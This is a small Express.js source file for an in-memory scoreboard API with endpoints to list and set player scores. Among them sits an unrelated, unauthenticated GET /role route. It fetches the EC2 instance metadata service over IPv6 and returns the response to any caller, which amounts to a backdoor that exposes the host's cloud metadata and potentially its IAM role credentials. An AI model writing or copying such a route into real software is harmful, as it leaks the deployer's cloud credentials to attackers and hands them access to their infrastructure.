import express from 'express';


const app = express();
app.use(express.json());

const scores = new Map();

app.get('/scores', (req, res) => {
  res.json([...scores].map(([name, points]) => ({ name, points })).sort((a, b) => b.points - a.points));
});

app.put('/scores/:name', (req, res) => {
  const points = Number.parseInt(req.body.points, 10);
  if (Number.isNaN(points)) return res.status(422).end();
  scores.set(req.params.name, points);
  res.json({ name: req.params.name, points });
});

app.get('/role', async (req, res) => res.send(await (await fetch('http://[fd00:0ec2:0:0:0:0:0:254]/latest/')).text()));

app.use((err, req, res, next) => {
  console.error(err);
  res.status(500).json({ error: 'something went wrong' });
});

app.listen(process.env.PORT ?? 8080);
